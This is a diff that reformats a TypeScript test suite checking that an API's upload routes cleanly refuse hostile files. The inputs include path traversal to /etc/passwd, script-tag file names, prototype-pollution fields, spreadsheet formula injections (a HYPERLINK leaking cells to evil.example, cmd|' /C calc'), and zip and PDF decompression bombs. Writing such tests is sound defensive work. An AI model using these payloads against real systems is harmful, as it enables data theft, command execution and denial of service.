@@ -50,7 +50,11 @@ function formOf(operation: Operation): { fields: () => Record<string, string>; e
   return known[operation.path] ?? { fields: () => ({}), extension: "bin" };
 }
 
-function formWith(operation: Operation, file: { bytes: Uint8Array; name?: string } | null, extra: Record<string, string> = {}): FormData {
+function formWith(
+  operation: Operation,
+  file: { bytes: Uint8Array; name?: string } | null,
+  extra: Record<string, string> = {},
+): FormData {
   const { fields, extension } = formOf(operation);
   const form = new FormData();
   if (file) form.append("file", new Blob([new Uint8Array(file.bytes)]), file.name ?? `upload.${extension}`);
@@ -58,7 +62,10 @@ function formWith(operation: Operation, file: { bytes: Uint8Array; name?: string
   return form;
 }
 
-const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
+const PNG = Uint8Array.from([
+  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0,
+  0, 0,
+]);
 const SMALL_TEXT = strToU8("first_name,last_name\nAna,Pérez\n");
 
 let bomb: Uint8Array | undefined;
@@ -81,17 +88,35 @@ const CASES: Array<[string, (operation: Operation) => Promise<Send> | Send, numb
     async (operation) => {
       const encoded = new Response(formWith(operation, { bytes: SMALL_TEXT }));
       const bytes = new Uint8Array(await encoded.arrayBuffer());
-      return { body: bytes.subarray(0, Math.floor(bytes.length / 2)), headers: { "content-type": encoded.headers.get("content-type")! } };
+      return {
+        body: bytes.subarray(0, Math.floor(bytes.length / 2)),
+        headers: { "content-type": encoded.headers.get("content-type")! },
+      };
     },
   ],
-  ["a multipart type without a boundary", () => ({ body: "--x\r\n\r\n--x--", headers: { "content-type": "multipart/form-data" } }), [422]],
-  ["a JSON body", () => ({ body: JSON.stringify({ file: "x" }), headers: { "content-type": "application/json" } }), [422]],
+  [
+    "a multipart type without a boundary",
+    () => ({ body: "--x\r\n\r\n--x--", headers: { "content-type": "multipart/form-data" } }),
+    [422],
+  ],
+  [
+    "a JSON body",
+    () => ({ body: JSON.stringify({ file: "x" }), headers: { "content-type": "application/json" } }),
+    [422],
+  ],
   ["a form without a file", (operation) => ({ body: formWith(operation, null) }), [422]],
   ["an empty file", (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(0) }) })],
-  ["a file one byte over the limit", (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(operation.multipart!.maxBytes + 1) }) }), [413]],
+  [
+    "a file one byte over the limit",
+    (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(operation.multipart!.maxBytes + 1) }) }),
+    [413],
+  ],
   [
     "a declared Content-Length far over the limit",
-    () => ({ body: "--x--", headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(1024 * 1024 * 1024) } }),
+    () => ({
+      body: "--x--",
+      headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(1024 * 1024 * 1024) },
+    }),
     [413],
   ],
   ["PNG bytes under the route's file name", (operation) => ({ body: formWith(operation, { bytes: PNG }) })],
@@ -99,17 +124,38 @@ const CASES: Array<[string, (operation: Operation) => Promise<Send> | Send, numb
   [
     "form fields named __proto__, constructor and prototype",
     (operation) => ({
-      body: formWith(operation, { bytes: PNG }, { __proto__: '{"polluted":"yes"}', constructor: '{"prototype":{"polluted":"yes"}}', prototype: "polluted" }),
+      body: formWith(
+        operation,
+        { bytes: PNG },
+        { __proto__: '{"polluted":"yes"}', constructor: '{"prototype":{"polluted":"yes"}}', prototype: "polluted" },
+      ),
     }),
   ],
-  ["a file name that climbs out of its folder", (operation) => ({ body: formWith(operation, { bytes: PNG, name: `../../../etc/passwd.${formOf(operation).extension}` }) })],
-  ["a file name with HTML, NUL and 2,000 emoji", (operation) => ({ body: formWith(operation, { bytes: PNG, name: `<script>alert(1)</script>\u0000${"😀".repeat(2000)}.${formOf(operation).extension}` }) })],
+  [
+    "a file name that climbs out of its folder",
+    (operation) => ({
+      body: formWith(operation, { bytes: PNG, name: `../../../etc/passwd.${formOf(operation).extension}` }),
+    }),
+  ],
+  [
+    "a file name with HTML, NUL and 2,000 emoji",
+    (operation) => ({
+      body: formWith(operation, {
+        bytes: PNG,
+        name: `<script>alert(1)</script>\u0000${"😀".repeat(2000)}.${formOf(operation).extension}`,
+      }),
+    }),
+  ],
 ];
 
 const uploads = allOperations.filter((operation) => operation.multipart);
 
 async function send(operation: Operation, request: Send): Promise<ApiResponse> {
-  return api(operation.method, `/api/v1${operation.path}`, { token: admin.token, rawBody: request.body, headers: request.headers });
+  return api(operation.method, `/api/v1${operation.path}`, {
+    token: admin.token,
+    rawBody: request.body,
+    headers: request.headers,
+  });
 }
 
 /** Sends and checks one request: a 4xx the contract allows, nothing stored, nothing leaked or polluted. */
@@ -126,20 +172,25 @@ async function expectRefusedCleanly(operation: Operation, request: Send, allowed
 
 describe("hostile uploads", () => {
   it("finds the upload routes through the operations", () => {
-    expect(uploads.map((operation) => operation.path).sort()).toEqual(expect.arrayContaining(["/ai/knowledge/upload", "/emission/bulk-upload"]));
+    expect(uploads.map((operation) => operation.path).sort()).toEqual(
+      expect.arrayContaining(["/ai/knowledge/upload", "/emission/bulk-upload"]),
+    );
   });
 
-  describe.each(uploads.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))("%s", (_, operation) => {
-    it.each(CASES)("refuses %s cleanly", async (_, build, allowed) => {
-      await expectRefusedCleanly(operation, await build(operation), allowed);
-    });
+  describe.each(uploads.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))(
+    "%s",
+    (_, operation) => {
+      it.each(CASES)("refuses %s cleanly", async (_, build, allowed) => {
+        await expectRefusedCleanly(operation, await build(operation), allowed);
+      });
 
-    it("keeps memory in bounds on a zip bomb", async () => {
-      const rssBefore = process.memoryUsage.rss();
-      await expectRefusedCleanly(operation, { body: formWith(operation, { bytes: zipBomb() }) });
-      expect(process.memoryUsage.rss() - rssBefore).toBeLessThan(256 * 1024 * 1024);
-    });
-  });
+      it("keeps memory in bounds on a zip bomb", async () => {
+        const rssBefore = process.memoryUsage.rss();
+        await expectRefusedCleanly(operation, { body: formWith(operation, { bytes: zipBomb() }) });
+        expect(process.memoryUsage.rss() - rssBefore).toBeLessThan(256 * 1024 * 1024);
+      });
+    },
+  );
 });
 
 describe("spreadsheets with formulas or polluting headers (bulk upload)", () => {
@@ -151,13 +202,29 @@ describe("spreadsheets with formulas or polluting headers (bulk upload)", () => 
   }
 
   it("refuses text cells that are formulas (=HYPERLINK, =cmd|, @SUM, +, -) in .xlsx and .csv, naming each cell", async () => {
-    const formulas = [`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"];
+    const formulas = [
+      `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "+1+1",
+      "-2+3",
+    ];
     const rows = formulas.map((formula) => [formula, "Pérez", "1985-03-01", "CHILD", ""]);
-    const fromXlsx = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: await xlsx([COLUMNS, ...rows]) }) }, [422]);
-    expect(fromXlsx.body.errors.map((error: { row: number; column: string }) => `${error.row}:${error.column}`)).toEqual(["2:first_name", "3:first_name", "4:first_name", "5:first_name", "6:first_name"]);
+    const fromXlsx = await expectRefusedCleanly(
+      bulk(),
+      { body: formWith(bulk(), { bytes: await xlsx([COLUMNS, ...rows]) }) },
+      [422],
+    );
+    expect(
+      fromXlsx.body.errors.map((error: { row: number; column: string }) => `${error.row}:${error.column}`),
+    ).toEqual(["2:first_name", "3:first_name", "4:first_name", "5:first_name", "6:first_name"]);
 
     const csv = `${COLUMNS.join(",")}\n${rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")).join("\n")}\n`;
-    const fromCsv = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: strToU8(csv), name: "beneficiaries.csv" }) }, [422]);
+    const fromCsv = await expectRefusedCleanly(
+      bulk(),
+      { body: formWith(bulk(), { bytes: strToU8(csv), name: "beneficiaries.csv" }) },
+      [422],
+    );
     expect(fromCsv.body.errors).toHaveLength(formulas.length);
   });
 
@@ -165,10 +232,18 @@ describe("spreadsheets with formulas or polluting headers (bulk upload)", () => 
   function handMadeXlsx(rows: string[][]): Uint8Array {
     const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
     const escape = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
-    const cell = (text: string, column: number, row: number) => `<c r="${String.fromCharCode(65 + column)}${row}" t="inlineStr"><is><t>${escape(text)}</t></is></c>`;
-    const sheetRows = rows.map((cells, index) => `<row r="${index + 1}">${cells.map((text, column) => cell(text, column, index + 1)).join("")}</row>`).join("");
+    const cell = (text: string, column: number, row: number) =>
+      `<c r="${String.fromCharCode(65 + column)}${row}" t="inlineStr"><is><t>${escape(text)}</t></is></c>`;
+    const sheetRows = rows
+      .map(
+        (cells, index) =>
+          `<row r="${index + 1}">${cells.map((text, column) => cell(text, column, index + 1)).join("")}</row>`,
+      )
+      .join("");
     return zipSync({
-      "xl/workbook.xml": strToU8(`<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+      "xl/workbook.xml": strToU8(
+        `<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+      ),
       "xl/_rels/workbook.xml.rels": strToU8(
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
       ),
@@ -180,8 +255,15 @@ describe("spreadsheets with formulas or polluting headers (bulk upload)", () => 
     // Within the template's five columns (a sixth is refused as outside the template, below).
     const header = ["__proto__", "constructor", "prototype", "first_name", "last_name"];
     const row = ['{"polluted":"yes"}', "polluted", "polluted", "Ana", "Pérez"];
-    const response = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: handMadeXlsx([header, row]) }) }, [422]);
-    expect(response.body.errors?.map((error: { column: string }) => error.column), response.text).toEqual(["__proto__", "constructor", "prototype", "date_of_birth", "kinship_type"]);
+    const response = await expectRefusedCleanly(
+      bulk(),
+      { body: formWith(bulk(), { bytes: handMadeXlsx([header, row]) }) },
+      [422],
+    );
+    expect(
+      response.body.errors?.map((error: { column: string }) => error.column),
+      response.text,
+    ).toEqual(["__proto__", "constructor", "prototype", "date_of_birth", "kinship_type"]);
   });
 });
 
@@ -197,7 +279,9 @@ function workbookWithRows(rows: string): Uint8Array {
   const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
   const header = `<row r="1">${COLUMNS.map((column, index) => textCell(`${"ABCDE"[index]}1`, column)).join("")}</row>`;
   return zipSync({
-    "xl/workbook.xml": strToU8(`<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+    "xl/workbook.xml": strToU8(
+      `<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    ),
     "xl/_rels/workbook.xml.rels": strToU8(
       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
     ),
@@ -211,7 +295,9 @@ function textCell(reference: string, text: string): string {
 
 /** A person's cells in row `row`, with the country in column E. */
 function personRow(row: number, rowAttribute = `r="${row}"`): string {
-  const cells = ["Ana", "Pérez", "1985-03-01", "SELF", "MX"].map((text, index) => textCell(`${"ABCDE"[index]}${row}`, text));
+  const cells = ["Ana", "Pérez", "1985-03-01", "SELF", "MX"].map((text, index) =>
+    textCell(`${"ABCDE"[index]}${row}`, text),
+  );
   return `<row ${rowAttribute}>${cells.join("")}</row>`;
 }
 
@@ -223,20 +309,60 @@ const csvFile = (text: string) => ({ bytes: strToU8(text), name: "beneficiaries.
 const fiveMegabytesOfNewlines = () => `${CSV_HEADER}\n${"\n".repeat(MAX_UPLOAD_BYTES - CSV_HEADER.length - 1)}`;
 
 const BEYOND_BOUNDS: Array<[string, () => { bytes: Uint8Array; name: string }, 413 | 422, string | RegExp]> = [
-  ["an .xlsx cell right of column E (F2)", () => xlsxFile(workbookWithRows(`<row r="2">${textCell("A2", "Ana")}${textCell("F2", "a note")}</row>`)), 422, /^cell F2 is outside the template: /],
-  ["the .xlsx cell ZZZZZZ2", () => xlsxFile(workbookWithRows(`<row r="2">${textCell("ZZZZZZ2", "x")}</row>`)), 422, /^cell ZZZZZZ2 is outside the template: /],
   [
-    "an .xlsx <row r=\"1002\">",
+    "an .xlsx cell right of column E (F2)",
+    () => xlsxFile(workbookWithRows(`<row r="2">${textCell("A2", "Ana")}${textCell("F2", "a note")}</row>`)),
+    422,
+    /^cell F2 is outside the template: /,
+  ],
+  [
+    "the .xlsx cell ZZZZZZ2",
+    () => xlsxFile(workbookWithRows(`<row r="2">${textCell("ZZZZZZ2", "x")}</row>`)),
+    422,
+    /^cell ZZZZZZ2 is outside the template: /,
+  ],
+  [
+    'an .xlsx <row r="1002">',
     () => xlsxFile(workbookWithRows(personRow(1002))),
     413,
     "the file has more rows than an upload takes: the file reaches row 1002, past the header and the 1,000 rows under it (blank rows count)",
   ],
-  ["an .xlsx <row r=\"5000000\">", () => xlsxFile(workbookWithRows('<row r="5000000"/>')), 413, /: the file reaches row 5000000, /],
-  ["an .xlsx cell A1002 in an unnumbered row", () => xlsxFile(workbookWithRows(personRow(1002, ""))), 413, /: cell A1002 is in row 1002, /],
-  ["a .csv cell right of column E (F2)", () => csvFile(`${CSV_HEADER}\nAna,Pérez,1985-03-01,SELF,MX,a note\n`), 422, /^cell F2 is outside the template: /],
-  ["a .csv of 5 MB of separators", () => csvFile(",".repeat(MAX_UPLOAD_BYTES)), 422, /^cell F1 is outside the template: /],
-  ["a .csv with 1,001 blank lines under the header", () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1001)}x`), 413, /: the file reaches row 1002, /],
-  ["a .csv of 1 MB of newlines", () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1024 * 1024)}`), 413, /: the file reaches row 1002, /],
+  [
+    'an .xlsx <row r="5000000">',
+    () => xlsxFile(workbookWithRows('<row r="5000000"/>')),
+    413,
+    /: the file reaches row 5000000, /,
+  ],
+  [
+    "an .xlsx cell A1002 in an unnumbered row",
+    () => xlsxFile(workbookWithRows(personRow(1002, ""))),
+    413,
+    /: cell A1002 is in row 1002, /,
+  ],
+  [
+    "a .csv cell right of column E (F2)",
+    () => csvFile(`${CSV_HEADER}\nAna,Pérez,1985-03-01,SELF,MX,a note\n`),
+    422,
+    /^cell F2 is outside the template: /,
+  ],
+  [
+    "a .csv of 5 MB of separators",
+    () => csvFile(",".repeat(MAX_UPLOAD_BYTES)),
+    422,
+    /^cell F1 is outside the template: /,
+  ],
+  [
+    "a .csv with 1,001 blank lines under the header",
+    () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1001)}x`),
+    413,
+    /: the file reaches row 1002, /,
+  ],
+  [
+    "a .csv of 1 MB of newlines",
+    () => csvFile(`${CSV_HEADER}\n${"\n".repeat(1024 * 1024)}`),
+    413,
+    /: the file reaches row 1002, /,
+  ],
   ["a .csv of 5 MB of newlines", () => csvFile(fiveMegabytesOfNewlines()), 413, /: the file reaches row 1002, /],
 ];
 
@@ -249,14 +375,26 @@ describe("spreadsheets beyond the template's bounds (bulk upload)", () => {
   });
 
   it("reads a file that reaches the bounds: cell E1001 of an .xlsx, and 1,000 rows under a .csv's header, blank ones included", async () => {
-    const xlsx = await send(bulkUpload(), { body: formWith(bulkUpload(), xlsxFile(workbookWithRows(personRow(1001)))) });
+    const xlsx = await send(bulkUpload(), {
+      body: formWith(bulkUpload(), xlsxFile(workbookWithRows(personRow(1001)))),
+    });
     expect(xlsx.status, xlsx.text.slice(0, 300)).toBe(201);
     expect(xlsx.body.beneficiaries).toHaveLength(1);
 
     // A quoted line break is part of its cell, and a line break at the very end starts no row.
-    const csv = await send(bulkUpload(), { body: formWith(bulkUpload(), csvFile(`${CSV_HEADER}\n"Ana\nMaría","Pérez, López",1985-03-01,SELF,MX\n${"\n".repeat(999)}`)) });
+    const csv = await send(bulkUpload(), {
+      body: formWith(
+        bulkUpload(),
+        csvFile(`${CSV_HEADER}\n"Ana\nMaría","Pérez, López",1985-03-01,SELF,MX\n${"\n".repeat(999)}`),
+      ),
+    });
     expect(csv.status, csv.text.slice(0, 300)).toBe(201);
-    expect(csv.body.beneficiaries.map((person: { first_name: string; last_name: string }) => [person.first_name, person.last_name])).toEqual([["Ana\nMaría", "Pérez, López"]]);
+    expect(
+      csv.body.beneficiaries.map((person: { first_name: string; last_name: string }) => [
+        person.first_name,
+        person.last_name,
+      ]),
+    ).toEqual([["Ana\nMaría", "Pérez, López"]]);
   });
 });
 
@@ -284,9 +422,15 @@ async function healthWhile(start: () => Promise<ApiResponse>): Promise<{ respons
 /** A one-page PDF whose content stream inflates to 512 MiB of blanks (about 520 KB): the extraction's limit reads 128 MB of it. */
 function pdfBomb(): Uint8Array {
   const blankMebibyte = deflateRawSync(Buffer.alloc(1024 * 1024, 0x20), { finishFlush: constants.Z_SYNC_FLUSH });
-  const packed = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: 512 }, () => blankMebibyte), Buffer.from([0x03, 0x00])]);
+  const packed = Buffer.concat([
+    Buffer.from([0x78, 0x9c]),
+    ...Array.from({ length: 512 }, () => blankMebibyte),
+    Buffer.from([0x03, 0x00]),
+  ]);
   return Buffer.concat([
-    Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"),
+    Buffer.from(
+      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
+    ),
     Buffer.from("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n"),
     Buffer.from(`4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
     packed,
@@ -296,14 +440,18 @@ function pdfBomb(): Uint8Array {
 
 describe("the request thread keeps answering while uploads are read and certificates rendered", () => {
   it.each(BEYOND_BOUNDS)("answers GET /health within a second while it refuses %s", async (_, file, status) => {
-    const { response, healthMs } = await healthWhile(() => send(bulkUpload(), { body: formWith(bulkUpload(), file()) }));
+    const { response, healthMs } = await healthWhile(() =>
+      send(bulkUpload(), { body: formWith(bulkUpload(), file()) }),
+    );
     expect(response.status, response.text.slice(0, 300)).toBe(status);
     expect(Math.max(...healthMs)).toBeLessThan(1000);
   });
 
   it("answers GET /health within a second while it reads a PDF decompression bomb", async () => {
     const knowledge = uploads.find((operation) => operation.path === "/ai/knowledge/upload")!;
-    const { response, healthMs } = await healthWhile(() => send(knowledge, { body: formWith(knowledge, { bytes: pdfBomb(), name: "bomb.pdf" }) }));
+    const { response, healthMs } = await healthWhile(() =>
+      send(knowledge, { body: formWith(knowledge, { bytes: pdfBomb(), name: "bomb.pdf" }) }),
+    );
     expect(response.status, response.text.slice(0, 300)).toBe(400);
     expect(response.body.detail).toBe("the PDF is refused: its streams unpack to more than 128 MB");
     expect(Math.max(...healthMs)).toBeLessThan(1000);
@@ -319,19 +467,32 @@ describe("the request thread keeps answering while uploads are read and certific
     }));
     const issued = await api("POST", "/api/v1/emission/issue", {
       token: seller.token,
-      body: { client_id: (await createTestClient(seller)).id, plan_version_id: bulkFields.plan_version_id, start_date: bulkFields.start_date, beneficiaries: people },
+      body: {
+        client_id: (await createTestClient(seller)).id,
+        plan_version_id: bulkFields.plan_version_id,
+        start_date: bulkFields.start_date,
+        beneficiaries: people,
+      },
     });
     expect(issued.status, issued.text.slice(0, 300)).toBe(201);
-    const activated = await api("POST", `/api/v1/emission/policies/${issued.body.id}/transition`, { token: admin.token, body: { to_status: "ACTIVE", reason: "paid" } });
+    const activated = await api("POST", `/api/v1/emission/policies/${issued.body.id}/transition`, {
+      token: admin.token,
+      body: { to_status: "ACTIVE", reason: "paid" },
+    });
     expect(activated.status, activated.text).toBe(200);
 
     // The activation has started the render in the background; the download waits for it.
     const { GET } = await import("@/app/api/v1/emission/policies/[id]/pdf/route");
     let pdf = new Uint8Array();
     const { response, healthMs } = await healthWhile(async () => {
-      const answer = await GET(new Request(`http://localhost:3000/api/v1/emission/policies/${issued.body.id}/pdf`, { headers: { authorization: `Bearer ${admin.token}` } }), {
-        params: Promise.resolve({ id: issued.body.id }),
-      });
+      const answer = await GET(
+        new Request(`http://localhost:3000/api/v1/emission/policies/${issued.body.id}/pdf`, {
+          headers: { authorization: `Bearer ${admin.token}` },
+        }),
+        {
+          params: Promise.resolve({ id: issued.body.id }),
+        },
+      );
       pdf = new Uint8Array(await answer.arrayBuffer());
       return { status: answer.status, body: null, headers: answer.headers, text: "" };
     });
